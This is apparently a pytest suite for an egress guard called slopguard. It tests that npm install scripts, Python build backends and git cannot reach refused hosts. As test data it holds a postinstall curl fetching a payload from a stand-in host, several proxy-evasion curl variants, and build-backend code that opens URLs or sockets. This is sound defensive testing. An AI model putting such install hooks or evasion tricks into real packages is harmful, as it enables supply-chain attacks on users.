"""Real clients under the net: what they, their install scripts and build backends cannot reach, and what they can.

The registry that a client is configured for stands for the gate; `registry.example` and `files.example` are names that
only the user's own proxy (of a test) knows, so nothing here leaves this machine whatever the net does.
"""

from __future__ import annotations

import subprocess
from collections.abc import Iterator

import pytest

from slopguard.egress import Net, landlock
from tests.conftest import MakeSandbox
from tests.egress.servers import HELLO, outside
from tests.simulators.npm import Npm
from tests.simulators.proxy import Proxy
from tests.simulators.pypi import PyPI
from tests.simulators.sandbox import Ran, Sandbox
from tests.simulators.server import LoopbackServer

pytestmark = pytest.mark.clients

REFUSED = ["http://registry.example/simple/", "http://files.example/"]
confining = pytest.mark.skipif(not landlock.available(), reason="this kernel (or its sandbox) has no Landlock for TCP")


@pytest.fixture
def server() -> Iterator[LoopbackServer]:
    with outside() as made:
        yield made


def under(net: Net, box: Sandbox, *argv: str) -> Ran:
    """Run a command as a guarded command is run: its environment covered, confined where that is possible."""
    env = net.environment(box.env)
    streams = {"stdin": subprocess.DEVNULL, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE}
    process = (
        subprocess.Popen(argv, env=env, cwd=box.project, **streams)
        if net.ports is None
        else landlock.start_confined(argv, env, box.project, net.ports, **streams)
    )
    out, err = (text.decode("utf-8", "replace") for text in process.communicate(timeout=240))
    return Ran(argv, process.returncode, out, err)


def scripted(npm: Npm, script: str) -> None:
    """Publish sg-fetches, whose install script is a line of shell."""
    npm.add("sg-fetches", scripts={"postinstall": script})


def built(box: Sandbox, code: str) -> str:
    """A project whose build backend runs a line of Python; gives the word that installs it."""
    box.write(
        "built/pyproject.toml", '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    )
    box.write("built/backend.py", f"def build_wheel(*args):\n    {code}\n")
    return "./built"


def test_an_install_script_cannot_fetch_from_a_refused_host(make_sandbox: MakeSandbox, npm: Npm) -> None:
    box = make_sandbox("npm", "10.9.9").use(npm)
    scripted(npm, "curl -sS --fail -o fetched http://files.example/payload")
    with Net(REFUSED, {}, gate=npm.url) as net:
        ran = under(net, box, "npm", "install", "sg-fetches")
    assert ran.rc != 0, ran
    assert [(each.host, each.port) for each in net.refusals] == [("files.example", 80)], ran
    assert not list(box.project.rglob("fetched"))


def test_it_can_fetch_from_elsewhere(make_sandbox: MakeSandbox, npm: Npm, server: LoopbackServer) -> None:
    box = make_sandbox("npm", "10.9.9").use(npm)
    scripted(npm, f"curl -sS --fail --noproxy '' -o fetched {server.origin}/payload")
    with Net(REFUSED, {}, gate=npm.url) as net:
        ran = under(net, box, "npm", "install", "sg-fetches")
    assert ran.rc == 0, ran
    assert [path.read_bytes() for path in box.project.rglob("fetched")] == [HELLO]
    assert net.refusals == ()


@confining
@pytest.mark.parametrize(
    "around",
    ["curl -sS --noproxy '*' URL", "env -i PATH=$PATH curl -sS URL", "NO_PROXY='*' no_proxy='*' curl -sS URL"],
)
def test_a_script_that_ignores_proxies_gets_nowhere(
    make_sandbox: MakeSandbox, npm: Npm, server: LoopbackServer, around: str
) -> None:
    box = make_sandbox("npm", "10.9.9").use(npm)
    scripted(npm, around.replace("URL", f"{server.origin}/payload"))
    with Net(REFUSED, {}, gate=npm.url) as net:
        ran = under(net, box, "npm", "install", "sg-fetches")
    assert ran.rc != 0, ran
    assert server.requests == []
    with Net(
        REFUSED, {}, gate=npm.url, enforce=False
    ) as net:  # so that it was Landlock, and a person can switch it off
        assert under(net, box, "npm", "install", "sg-fetches").rc == 0
    assert [seen.path for seen in server.requests] == ["/payload"]


@pytest.mark.parametrize("family", ["pip", "uv"])
def test_nor_can_a_build_backend(make_sandbox: MakeSandbox, pypi: PyPI, family: str) -> None:
    box = make_sandbox(family, "newest").use(pypi)
    word = built(box, "import urllib.request as u; u.urlopen('http://files.example/payload')")
    with Net(REFUSED, {}, gate=pypi.url) as net:
        ran = under(net, box, *box.install(word))
    assert ran.rc != 0, ran
    assert [each.host for each in net.refusals] == ["files.example"], ran
    assert "no way to files.example past the guard" in ran.text


@confining
@pytest.mark.parametrize("family", ["pip", "uv"])
def test_nor_by_a_socket_of_its_own(make_sandbox: MakeSandbox, pypi: PyPI, server: LoopbackServer, family: str) -> None:
    box = make_sandbox(family, "newest").use(pypi)
    port = server.origin.rpartition(":")[2]
    word = built(box, f"import socket; socket.create_connection(('127.0.0.1', {port}))")
    with Net(REFUSED, {}, gate=pypi.url) as net:
        ran = under(net, box, *box.install(word))
    assert ran.rc != 0, ran
    assert "Permission denied" in ran.text


PAST = {
    "pip": "pip install --retries 0 --trusted-host registry.example -i http://registry.example/simple/ sg-alpha",
    "uv": "uv pip install --default-index http://registry.example/simple/ sg-alpha",
    "npm": "npm install --replace-registry-host always --registry http://registry.example/ sg-alpha",
}
"""A command that leads past the gate, as a project's file or a script might."""


@pytest.mark.parametrize("family", PAST)
def test_a_client_led_past_the_gate_gets_nothing(make_sandbox: MakeSandbox, pypi: PyPI, npm: Npm, family: str) -> None:
    registry = npm if family == "npm" else pypi
    registry.add_established("sg-alpha")
    box = make_sandbox(family, "newest").use(registry)
    with Proxy({"registry.example": registry.server.origin}) as own:
        for spared in ("", "registry.example", "*"):
            env = {"HTTP_PROXY": own.url, "NO_PROXY": spared}
            with Net(REFUSED, env, gate=registry.url) as net:
                ran = under(net, box, *PAST[family].split())
            assert ran.rc != 0, ran
            assert {each.host for each in net.refusals} == {"registry.example"}, ran
            assert own.asked == []
    assert box.installed == {}


@pytest.mark.parametrize("family", PAST)
def test_what_a_person_allows_is_fetched_through_the_users_own_proxy(
    make_sandbox: MakeSandbox, pypi: PyPI, npm: Npm, family: str
) -> None:
    registry = npm if family == "npm" else pypi
    registry.add_established("sg-alpha")
    box = make_sandbox(family, "newest").use(registry)
    with Proxy({"registry.example": registry.server.origin}) as own:
        env = {"HTTP_PROXY": own.url.replace("//", "//me:word@")}
        with Net(REFUSED, env, allow=["registry.example"], gate=registry.url) as net:
            ran = under(net, box, *PAST[family].split())
    assert ran.rc == 0, ran
    assert "sg-alpha" in box.installed
    assert set(own.asked) == {"GET registry.example:80"}
    assert own.authorizations == {"Basic bWU6d29yZA=="}


def test_git_cannot_clone_from_a_refused_host_whatever_its_settings_say(make_sandbox: MakeSandbox, npm: Npm) -> None:
    box = make_sandbox("npm", "10.9.9").use(npm)
    with Proxy({}) as own, Net(REFUSED, {"HTTPS_PROXY": own.url}) as net:
        box.write("~/.gitconfig", f"[http]\n\tproxy = {own.url}\n")
        for url in ("https://github.com/acme/thing", "https://registry.example/acme/thing"):
            ran = under(net, box, "git", "clone", url, "cloned")
            assert ran.rc != 0, ran
            assert "403" in ran.err
    assert {each.host for each in net.refusals} == {"github.com", "registry.example"}
    assert own.asked == []
    assert not (box.project / "cloned").exists()


def test_npm_cannot_install_from_a_code_host(make_sandbox: MakeSandbox, npm: Npm) -> None:
    box = make_sandbox("npm", "10.9.9").use(npm)
    with Net(REFUSED, {}, gate=npm.url) as net:
        ran = under(net, box, "npm", "install", "--fetch-retries=0", "git+https://github.com/acme/thing.git")
    assert ran.rc != 0, ran
    assert {each.host for each in net.refusals} == {"github.com"}, ran
